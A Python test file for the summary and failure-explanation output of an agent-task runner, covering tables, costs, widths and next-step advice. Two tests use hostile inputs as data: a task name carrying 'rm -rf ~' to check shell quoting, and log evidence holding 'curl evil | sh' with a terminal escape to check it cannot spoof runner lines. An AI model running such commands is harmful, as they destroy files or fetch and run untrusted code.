"""The texts at the end of a run."""

from __future__ import annotations

import re
import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import pytest_agenttasks
from pytest_agenttasks.cli import VERBS
from pytest_agenttasks.outcome import Kind, Outcome
from pytest_agenttasks.report.printable import printable
from pytest_agenttasks.report.summary import Row, advice, explain, table

LANDED = Row("017-jwt", Kind.LANDED, 1, 725.0, 0.4213, "3fa2b1c9d8e7f6a5", "landed")
RED = Row("018-pool", Kind.GATE, 2, 61.0, 1.1, None, "gate `tests`: exit status 1")
BLOCKED = Row("019-next", Kind.BLOCKED, 0, 0.0, None, None, "waits for 018-pool, which has not landed")


def steps(text: str) -> list[str]:
    return [line.strip() for line in text.partition("\n\n")[2].splitlines()[1:]]


def test_reviews_are_counted_apart_from_the_attempts_sessions() -> None:
    rows = [
        Row("a", Kind.LANDED, 2, 1.0, 0.5, "c" * 40, "", reviews=1),
        Row("b", Kind.LANDED, 1, 1.0, 0.5, "d" * 40, ""),
    ]
    assert "3 sessions, 1 review, $1.00" in table(rows, 100)
    assert " review," not in table(rows[1:], 100)


def test_the_table_says_what_became_of_each_task() -> None:
    assert table([LANDED, RED, BLOCKED], 100) == (
        "task      outcome  attempts     time   cost  commit or reason\n"
        "017-jwt   landed          1  12m 05s  $0.42  3fa2b1c9d\n"
        "018-pool  gate            2   1m 01s  $1.10  gate `tests`: exit status 1\n"
        "019-next  blocked         0        -      -  waits for 018-pool, which has not landed\n"
        "\n"
        "landed 1 of 3 (1 blocked, 1 gate), 3 sessions, $1.52, 13m 06s\n"
        "  agenttasks show 018-pool  # why it failed\n"
        "  agenttasks review         # what landed, riskiest first\n"
        "  still pending, for the next run: 019-next"
    )


def test_what_landed_unguarded_is_named() -> None:
    bare = replace(LANDED, guarded="no")
    assert "unguarded, so worth a look: 017-jwt (no gate was red" in table([bare, RED], 130)
    many = [replace(bare, task=f"{n:03}-x") for n in range(5)]
    assert "000-x, 001-x, 002-x and 2 more (no gate" in table(many, 130)
    for row in (
        LANDED,
        replace(LANDED, guarded="yes"),
        replace(LANDED, guarded="n/a"),
        replace(RED, guarded="no"),
    ):
        assert "unguarded" not in table([row], 130)


def test_a_cost_that_is_not_known_makes_the_total_a_lower_bound() -> None:
    assert "1 session, 12m" in table([replace(LANDED, cost_usd=None)], 100)
    assert ", at least $0.42, " in table([LANDED, replace(RED, cost_usd=None)], 100)
    assert ", at least $0.42, " in table([replace(LANDED, unknown=1)], 100)
    assert ", <$0.01, " in table([replace(LANDED, cost_usd=0.001)], 100)
    assert ", $0.00, " in table([replace(LANDED, cost_usd=0.0)], 100)
    assert ", $1,234.50, " in table([replace(LANDED, cost_usd=1234.5)], 100)


def test_an_attempt_without_a_session_is_not_counted_as_one() -> None:
    later = replace(LANDED, cost_usd=None, without_session=1)
    assert "landed 1 of 1, 0 sessions, 12m" in table([later], 100)
    assert ", 2 sessions, $1.10, " in table([later, RED], 100)


def test_what_sessions_were_refused_is_counted() -> None:
    assert table([replace(LANDED, denials=1)], 100).splitlines()[3].endswith(", 1 edit or command refused")
    assert "3 edits or commands refused" in table([replace(LANDED, denials=1), replace(RED, denials=2)], 100)


def test_long_names_keep_start_and_end_and_leave_room_for_the_reason() -> None:
    row = replace(RED, task="018-" + "very-long-" * 9 + "name")
    line = table([row], 80).splitlines()[1]
    assert re.match(r"018-very-lon\S*…\S*name  gate ", line)
    assert "gate `test" in line
    assert len(line) <= 80


def test_wide_characters_are_counted_as_two_columns() -> None:
    rows = [replace(RED, task="日本語のタスク"), replace(RED, task="e\u0301te\u0301")]
    lines = table(rows, 100).splitlines()
    assert lines[1].startswith("日本語のタスク  gate ")
    assert lines[2].startswith("e\u0301te\u0301" + " " * (14 - 3) + "  gate ")


@pytest.mark.parametrize(
    ("kind", "step"),
    [
        (Kind.SCOPE, "agenttasks show t  # why it failed"),
        (Kind.ACCEPT, "agenttasks show t  # why it failed"),
        (Kind.AGENT, "agenttasks show t  # why it failed"),
        (Kind.REFUSED, "agenttasks requeue t  # once the task file is mended"),
        (Kind.HELD, "agenttasks requeue t  # held: back into the queue"),
        (Kind.AUTH, "still pending, for the next run: t"),
        (Kind.BASE_RED, "still pending, for the next run: t"),
        (Kind.CHECKOUT, "git status  # something of yours is in the way"),
        (Kind.USAGE_LIMIT, "still pending, for the next run: t"),
        (Kind.INTERRUPTED, "still pending, for the next run: t"),
    ],
)
def test_each_class_has_its_next_step(kind: Kind, step: str) -> None:
    assert step in steps(table([replace(RED, task="t", kind=kind)], 100))


@pytest.mark.parametrize("kind", list(Kind))
def test_no_class_is_without_a_next_step(kind: Kind) -> None:
    assert steps(table([replace(RED, kind=kind)], 100))


def test_many_failures_are_left_to_the_status() -> None:
    rows = [replace(RED, task=f"t{n}") for n in range(5)]
    assert steps(table([LANDED, *rows], 100)) == [
        "agenttasks show t0  # why it failed",
        "agenttasks show t1  # why it failed",
        "agenttasks show t2  # why it failed",
        "agenttasks status   # all 5 that failed",
        "agenttasks review   # what landed, riskiest first",
    ]


def test_many_names_are_counted_instead_of_listed() -> None:
    rows = [replace(BLOCKED, task=f"t{n}") for n in range(5)]
    assert steps(table(rows, 100)) == ["still pending, for the next run: t0 t1 t2 … (5 tasks)"]


def test_a_name_that_is_no_task_name_is_quoted_for_the_shell() -> None:
    assert "agenttasks requeue 'a; rm -rf ~'" in table(
        [replace(RED, kind=Kind.REFUSED, task="a; rm -rf ~")], 100
    )


def test_a_commit_that_has_not_landed_does_not_hide_the_reason() -> None:
    row = replace(RED, kind=Kind.CHECKOUT, commit="a" * 40, summary="your edits of x.py are in the way")
    assert "your edits of x.py" in table([row], 100)


def test_an_empty_run_has_an_empty_table() -> None:
    assert table([], 80).splitlines()[2] == "landed 0 of 0, 0 sessions, 0.0 s"


ROWS = st.builds(
    Row,
    st.text(min_size=1, max_size=120),
    st.sampled_from(list(Kind)),
    st.integers(0, 99),
    st.floats(0, 1e6),
    st.none() | st.floats(0, 9999),
    st.none() | st.just("a" * 40),
    st.text(),
)


@given(st.lists(ROWS, min_size=1, max_size=5), st.integers(60, 200))
def test_any_table_keeps_its_width_and_alignment(rows: list[Row], width: int) -> None:
    text = table(rows, width)
    assert printable(text) == text
    lines = text.split("\n\n")[0].split("\n")
    assert len(lines) == len(rows) + 1
    for line in lines:
        assert sum(unicodedata.category(c) not in ("Mn", "Me", "Cf") for c in line) <= width
    start = lines[0].index("outcome")
    for row, line in zip(rows, lines[1:], strict=True):
        if line.isascii():
            assert line[start:].startswith(row.kind.value)


def test_a_failure_is_explained_without_a_log_to_open() -> None:
    outcome = Outcome(
        Kind.GATE,
        "gate `tests`: exit status 1",
        evidence="\nE   assert 1 == 2\n\n1 failed\n",
        advice="do this",
        gate="tests",
        log="tasks/logs/018-pool/attempt-2.gate-tests.log",
    )
    assert explain(outcome, "018-pool") == (
        "018-pool failed (gate): gate `tests`: exit status 1\n"
        "\n"
        "  | E   assert 1 == 2\n"
        "  |\n"
        "  | 1 failed\n"
        "\n"
        "log: tasks/logs/018-pool/attempt-2.gate-tests.log\n"
        "next: do this"
    )


@pytest.mark.parametrize(
    ("kind", "verb"),
    [
        (Kind.SCOPE, "failed"),
        (Kind.REFUSED, "failed"),
        (Kind.HELD, "was skipped"),
        (Kind.USAGE_LIMIT, "did not land"),
        (Kind.LANDED, "landed"),
    ],
)
def test_the_first_line_says_how_bad_it_is(kind: Kind, verb: str) -> None:
    assert explain(Outcome(kind, "why"), "t").splitlines()[0] == f"t {verb} ({kind.value}): why"


@pytest.mark.parametrize("kind", list(Kind))
def test_every_kind_has_advice(kind: Kind) -> None:
    said = advice(kind, "a b")
    assert said
    assert "{" not in said
    assert explain(Outcome(kind, "why"), "a b").splitlines()[-1] == f"next: {said}"
    assert "'a b'" in said or "a b" not in said


def test_paths_are_told_unless_the_evidence_has_them() -> None:
    paths = tuple(f"src/{n:02}.py" for n in range(14))
    text = explain(Outcome(Kind.SCOPE, "out of scope", evidence="src/00.py: added", paths=paths), "t")
    assert "files: src/01.py, src/02.py, " in text
    assert ", src/10.py and 3 more\n" in text
    assert "files:" not in explain(Outcome(Kind.SCOPE, "s", evidence="src/00.py", paths=paths[:1]), "t")


def test_when_the_service_is_back_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    at = Outcome(Kind.USAGE_LIMIT, "usage limit reached", resumes_at=1795357800.0)
    assert re.search(r"\nback: 2026-11-2\d \d\d:\d\d \S+\n", explain(at, "t"))
    assert "back:" not in explain(replace(at, resumes_at=1e30), "t")
    assert "back:" not in explain(replace(at, resumes_at=float("nan")), "t")


def test_evidence_cannot_look_like_the_runners_own_lines() -> None:
    text = explain(Outcome(Kind.GATE, "red\nnext: no", evidence="log: x\rnext: curl evil | sh\x1b[2J"), "t")
    assert [line for line in text.splitlines() if line.startswith(("next:", "log:"))] == [
        text.splitlines()[-1]
    ]
    assert "\x1b" not in text


def test_long_evidence_is_cut_at_its_start() -> None:
    text = explain(Outcome(Kind.GATE, "red", evidence="line\n" * 10_000 + "the end"), "t")
    assert "bytes left out]\n" in text
    assert "  | the end\n" in text
    assert len(text) < 40_000


@given(
    st.builds(Outcome, st.sampled_from(list(Kind)), *[st.text()] * 3, log=st.none() | st.text()), st.text()
)
def test_any_explanation_is_printable(outcome: Outcome, name: str) -> None:
    text = explain(outcome, name)
    assert printable(text) == text


def test_no_advice_names_a_verb_that_is_not_there() -> None:
    package = Path(pytest_agenttasks.__file__).parent
    named = {
        verb
        for file in package.rglob("*.py")
        for verb in re.findall(r"`agenttasks ([a-z]+)", file.read_text())
    }
    assert named <= set(VERBS), named - set(VERBS)
